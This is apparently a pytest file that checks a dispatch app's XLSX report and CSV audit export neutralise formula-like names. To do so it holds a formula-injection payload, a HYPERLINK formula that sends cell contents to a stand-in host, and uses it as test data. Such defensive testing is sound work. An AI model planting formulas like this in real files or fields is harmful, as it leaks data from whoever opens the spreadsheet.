"""Spreadsheets and CSV files show what people typed, and never run it: a client named like a
formula is plain text in the monthly report and in the audit export."""

import csv
import io

import httpx
from openpyxl import load_workbook
from sqlmodel import Session

from dispatch.cells import inert
from models.enums import Role
from tests.builders.accounts import create_user, sign_in
from tests.builders.days import DAY, plan_day

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'


def test_a_name_like_a_formula_is_text_in_the_monthly_report_and_the_audit_export(
    api: httpx.Client, session: Session
) -> None:
    day = plan_day(api, session, clients=2, volunteers=1)
    coordinator = day.coordinator.user
    coordinator.display_name = FORMULA  # who made the change: in its own column of the export
    session.add(coordinator)
    session.commit()
    client_id = day.first_route["stops"][-1]["client_id"]
    renamed = api.patch(
        f"/api/clients/{client_id}", json={"name": FORMULA}, headers=day.coordinator.headers
    )
    assert renamed.status_code == 200, renamed.text
    manager = create_user(session, role=Role.MANAGER, stations=(day.station,))
    sign_in(api, manager.username)

    report = api.get(f"/reports/{day.station.id}/{DAY[:7]}.xlsx")
    assert report.status_code == 200
    book = load_workbook(io.BytesIO(report.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no formula anywhere
    assert "'" + FORMULA in [c.value for c in cells]  # the missed stop, as typed

    export = api.get("/api/audit/export.csv", headers=day.coordinator.headers)
    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff"))))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert "'" + FORMULA in [cell for row in rows for cell in row]


def test_only_text_that_could_start_a_formula_is_changed() -> None:
    assert inert("=1+1") == "'=1+1"
    assert inert("+8613912345678") == "'+8613912345678"
    assert inert("@SUM(A1)") == "'@SUM(A1)"
    assert inert("王秀英") == "王秀英"
    assert inert(-3) == -3  # numbers stay numbers
